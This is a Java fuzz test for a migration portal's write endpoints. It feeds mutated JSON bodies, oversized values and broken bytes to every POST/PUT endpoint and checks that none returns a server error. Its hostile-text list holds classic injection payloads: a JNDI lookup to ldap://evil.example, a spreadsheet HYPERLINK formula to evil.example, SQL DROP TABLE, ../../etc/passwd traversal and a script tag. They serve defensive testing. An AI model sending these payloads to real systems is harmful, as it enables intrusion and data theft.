package org.migrationportal.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.request;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.Supplier;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.sessions.JqwikSession;
import org.junit.jupiter.api.Test;
import org.migrationportal.support.PortalIntegrationTest;
import org.migrationportal.support.TestData;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Fuzzes every POST/PUT endpoint of the API from its example body: each try takes one body, changes one of its
 * values (hostile text with NUL, lone surrogates and control characters, huge strings, wrong types, extreme
 * numbers, missing fields, huge lists, deep nesting) or damages the bytes, sends it, and no answer may be 500 or
 * more, and every refusal must be a problem. Values come from jqwik generators driven by one seed
 * ({@code -Dfuzz.seed}, printed), so a failing try can be replayed; {@code -Dfuzz.tries} sets how many.
 */
@PortalIntegrationTest
class RequestFuzzTests {

    private static final Logger log = LoggerFactory.getLogger(RequestFuzzTests.class);
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final Duration DEADLINE = Duration.ofSeconds(150);

    /** Text no field should choke on: any UTF-16 units (lone surrogates too), NUL, control and formula characters. */
    private static final Arbitrary<String> HOSTILE_TEXT = Arbitraries.oneOf(
            Arbitraries.strings().all().ofMinLength(1).ofMaxLength(16),
            Arbitraries.strings()
                    .withChars('\u0000', '\uD800', '\uDBFF', '\uDC00', '\uDFFF', '\uFFFE', '\u202E', '\t', '\r', '\n')
                    .withChars('"', '\\', '=', '%', '\'', ';', '<', '&')
                    .ofMinLength(1)
                    .ofMaxLength(10),
            Arbitraries.of(
                    "=HYPERLINK(\"https://evil.example\",\"x\")",
                    "'; DROP TABLE migration; --",
                    "../../etc/passwd",
                    "%00%E0%A4%A",
                    "${jndi:ldap://evil.example/a}",
                    "<script>alert(1)</script>",
                    "🚀".repeat(50)));

    private static final Arbitrary<Integer> HUGE_LENGTH = Arbitraries.of(1_000, 20_000, 200_000, 2_000_000);

    private static final Arbitrary<JsonNode> WRONG_TYPE = Arbitraries.oneOf(
            Arbitraries.longs().map(NODES::numberNode),
            Arbitraries.of(
                    NODES.numberNode(new java.math.BigInteger("123456789012345678901234567890")),
                    NODES.numberNode(new java.math.BigDecimal("1e400")),
                    NODES.numberNode(-1),
                    NODES.numberNode(0),
                    NODES.numberNode(1.5),
                    NODES.booleanNode(true),
                    NODES.nullNode(),
                    NODES.stringNode(""),
                    NODES.stringNode("   "),
                    NODES.arrayNode(),
                    NODES.objectNode(),
                    NODES.stringNode("2026-13-45T99:99:99Z")));

    private static final String DEEP = "deep-nesting-goes-here";

    private static final Arbitrary<Kind> KINDS = Arbitraries.of(Kind.class);

    enum Kind {
        HOSTILE_TEXT,
        HUGE_STRING,
        WRONG_TYPE,
        REMOVE,
        HUGE_LIST,
        DEEP_NESTING,
        UNKNOWN_FIELD,
        TRUNCATED,
        INVALID_UTF8
    }

    @Autowired
    MockMvc mvc;

    @Autowired
    TestData data;

    record Endpoint(HttpMethod method, String path, String body, Supplier<String> token) {}

    @Test
    void noMutatedBodyOfAnyWriteEndpointGetsA5xx() throws Exception {
        long seed = Long.getLong("fuzz.seed", 20_261_202L);
        int tries = Integer.getInteger("fuzz.tries", 200);
        log.info("Request fuzz: seed {} ({} tries); replay with -Dfuzz.seed={}", seed, tries, seed);
        String project = TestData.uniqueKey("fuzz");
        data.project(project);
        String admin = data.admin(TestData.uniqueKey("fuzz-admin"));
        List<Endpoint> endpoints = endpoints(project, admin);

        List<String> failures = new ArrayList<>();
        List<Integer> statuses = new ArrayList<>();
        Instant deadline = Instant.now().plus(DEADLINE);
        // jqwik generators outside a jqwik property need a session; each try draws from its own seeded Random.
        JqwikSession.start(String.valueOf(seed));
        try {
            for (int i = 0; i < tries && Instant.now().isBefore(deadline); i++) {
                Random random = new Random(seed + i);
                Endpoint endpoint = endpoints.get(random.nextInt(endpoints.size()));
                Kind kind = next(KINDS, random);
                byte[] body = mutate(endpoint.body().replace("{unique}", TestData.uniqueKey("f")), kind, random);
                MockHttpServletResponse answer = mvc.perform(request(endpoint.method(), endpoint.path())
                                .header(
                                        "Authorization",
                                        "Bearer " + endpoint.token().get())
                                .contentType(MediaType.APPLICATION_JSON)
                                .content(body))
                        .andReturn()
                        .getResponse();
                int status = answer.getStatus();
                statuses.add(status);
                String contentType = answer.getContentType() == null ? "" : answer.getContentType();
                if (status >= 500 || status >= 400 && !contentType.startsWith("application/problem+json")) {
                    failures.add("try " + i + " (" + kind + "): " + endpoint.method() + " " + endpoint.path() + " -> "
                            + status + " " + contentType + "; body starts "
                            + new String(body, 0, Math.min(body.length, 300), StandardCharsets.UTF_8));
                }
            }
        } finally {
            JqwikSession.finish();
        }
        log.info(
                "Request fuzz: {} tries, statuses {}",
                statuses.size(),
                statuses.stream().sorted().distinct().toList());
        assertThat(failures).isEmpty();
        assertThat(statuses).hasSizeGreaterThanOrEqualTo(Math.min(tries, 50));
        // Many tries change a value the endpoint accepts: the fuzz reaches past parsing into the handlers.
        assertThat(statuses).anyMatch(s -> s < 300);
    }

    private List<Endpoint> endpoints(String project, String admin) {
        Supplier<String> pipeline = () ->
                data.projectToken(project, List.of("ci:write", "deploy:write", "backup:write", "gate:read"), List.of());
        Supplier<String> person = () -> data.personalToken(admin);
        String ciRun = example("ci-run", project);
        return List.of(
                new Endpoint(HttpMethod.POST, "/api/v1/ci-runs", ciRun, pipeline),
                new Endpoint(HttpMethod.POST, "/api/v1/deployments", example("deployment", project), pipeline),
                new Endpoint(HttpMethod.POST, "/api/v1/backups", example("backup", project), pipeline),
                new Endpoint(HttpMethod.POST, "/api/v1/drift-reports", example("drift-report", project), pipeline),
                new Endpoint(HttpMethod.POST, "/api/v1/gate", example("gate-request", project), pipeline),
                new Endpoint(HttpMethod.POST, "/api/v1/approvals", """
                        {"project":"%s","environment":"prod","revisions":["b7e1d2c3a4f5"],"reason":"release 42"}""".formatted(project), person),
                new Endpoint(HttpMethod.POST, "/api/v1/approvals/2147483000/decisions", """
                        {"decision":"approve","comment":"looks safe"}""", person),
                new Endpoint(
                        HttpMethod.POST,
                        "/api/v1/projects",
                        raw("project-create").replace("dylen-engine", "{unique}"),
                        person),
                new Endpoint(HttpMethod.PUT, "/api/v1/projects/" + project, """
                        {"name":"Project","migrationTool":"alembic","repositoryUrl":"https://git.example.org/x",
                         "defaultBranch":"main","badgeEnabled":false}""", person),
                new Endpoint(HttpMethod.POST, "/api/v1/projects/" + project + "/environments", """
                        {"key":"{unique}","name":"QA","order":4,"production":false,"verifiedBy":"staging"}""", person),
                new Endpoint(HttpMethod.PUT, "/api/v1/projects/" + project + "/environments/dev", """
                        {"key":"dev","name":"Development","order":1,"production":false}""", person),
                new Endpoint(HttpMethod.PUT, "/api/v1/projects/" + project + "/environments/dev/policy", """
                        {"requiredChecks":["lint","heads"],"reviewsRequired":1,"backupWindowHours":24,
                         "lockThresholdMs":5000,"driftMaxAgeDays":7,"approvalsRequired":1,"approvalExpiryDays":7,
                         "breakGlassReviewHours":24,"gateMode":"enforce"}""", person),
                new Endpoint(HttpMethod.POST, "/api/v1/projects/" + project + "/tokens", raw("token-create"), person),
                new Endpoint(HttpMethod.POST, "/api/v1/users", """
                        {"username":"{unique}","displayName":"Fuzz","password":"correct-horse-battery-staple",
                         "roles":[{"role":"APPROVER","project":"%s"}]}""".formatted(project), person),
                new Endpoint(HttpMethod.POST, "/api/v1/audit/verify", """
                        {"checkpoints":[{"sequence":1,"lastEntryId":1,"entryHash":"%s","entryCount":1,
                         "sealedAt":"2026-11-20T09:12:03Z","keyId":"k1","signature":"c2lnbmF0dXJl"}]}""".formatted("ab".repeat(32)), person));
    }

    private static byte[] mutate(String example, Kind kind, Random random) {
        if (kind == Kind.TRUNCATED) {
            byte[] bytes = example.getBytes(StandardCharsets.UTF_8);
            return java.util.Arrays.copyOf(bytes, random.nextInt(bytes.length));
        }
        if (kind == Kind.INVALID_UTF8) {
            byte[] bytes = example.getBytes(StandardCharsets.UTF_8);
            bytes[random.nextInt(bytes.length)] = (byte) (0x80 | random.nextInt(0x80));
            return bytes;
        }
        JsonNode root = JSON.readTree(example);
        List<Slot> slots = new ArrayList<>();
        collect(root, slots);
        Slot slot = slots.get(random.nextInt(slots.size()));
        JsonNode old = slot.get();
        switch (kind) {
            case HOSTILE_TEXT ->
                slot.set(NODES.stringNode((old.isString() ? old.asString() : "") + next(HOSTILE_TEXT, random)));
            case HUGE_STRING -> slot.set(NODES.stringNode("x".repeat(next(HUGE_LENGTH, random))));
            case WRONG_TYPE -> slot.set(next(WRONG_TYPE, random));
            case REMOVE -> slot.remove();
            case HUGE_LIST -> {
                ArrayNode list = NODES.arrayNode();
                int copies = 1 + random.nextInt(5_000);
                for (int c = 0; c < copies; c++) {
                    list.add(old.deepCopy());
                }
                slot.set(list);
            }
            case DEEP_NESTING -> {
                // Deeper than Jackson writes (500), so spliced in as text after writing.
                int depth = 100 + random.nextInt(900);
                slot.set(NODES.stringNode(DEEP));
                String json = JSON.writeValueAsString(root);
                return json.replace(
                                "\"" + DEEP + "\"",
                                "[".repeat(depth) + JSON.writeValueAsString(old) + "]".repeat(depth))
                        .getBytes(StandardCharsets.UTF_8);
            }
            case UNKNOWN_FIELD -> {
                if (root instanceof ObjectNode object) {
                    object.put("unexpected" + random.nextInt(100), next(HOSTILE_TEXT, random));
                }
            }
            default -> throw new IllegalStateException(kind.toString());
        }
        return escapeLoneSurrogates(JSON.writeValueAsString(root)).getBytes(StandardCharsets.UTF_8);
    }

    /** A place in the tree that can be read, replaced or removed. */
    private record Slot(JsonNode parent, String field, int index) {
        JsonNode get() {
            return field != null ? parent.get(field) : parent.get(index);
        }

        void set(JsonNode value) {
            if (field != null) {
                ((ObjectNode) parent).set(field, value);
            } else {
                ((ArrayNode) parent).set(index, value);
            }
        }

        void remove() {
            if (field != null) {
                ((ObjectNode) parent).remove(field);
            } else {
                ((ArrayNode) parent).remove(index);
            }
        }
    }

    private static void collect(JsonNode node, List<Slot> slots) {
        if (node instanceof ObjectNode object) {
            for (String name : object.propertyNames()) {
                slots.add(new Slot(object, name, -1));
                collect(object.get(name), slots);
            }
        } else if (node instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                slots.add(new Slot(array, null, i));
                collect(array.get(i), slots);
            }
        }
    }

    /** Jackson writes a lone surrogate as the char itself, which UTF-8 cannot carry: send its JSON escape. */
    private static String escapeLoneSurrogates(String json) {
        StringBuilder out = new StringBuilder(json.length());
        for (int i = 0; i < json.length(); i++) {
            char c = json.charAt(i);
            boolean paired = Character.isHighSurrogate(c)
                            && i + 1 < json.length()
                            && Character.isLowSurrogate(json.charAt(i + 1))
                    || Character.isLowSurrogate(c) && i > 0 && Character.isHighSurrogate(json.charAt(i - 1));
            if (Character.isSurrogate(c) && !paired) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.toString();
    }

    private static <T> T next(Arbitrary<T> arbitrary, Random random) {
        return arbitrary.generator(1_000).next(random).value();
    }

    private static String example(String name, String project) {
        return raw(name).replace("dylen-engine", project);
    }

    private static String raw(String name) {
        try (InputStream in = RequestFuzzTests.class.getResourceAsStream("/api-examples/" + name + ".json")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
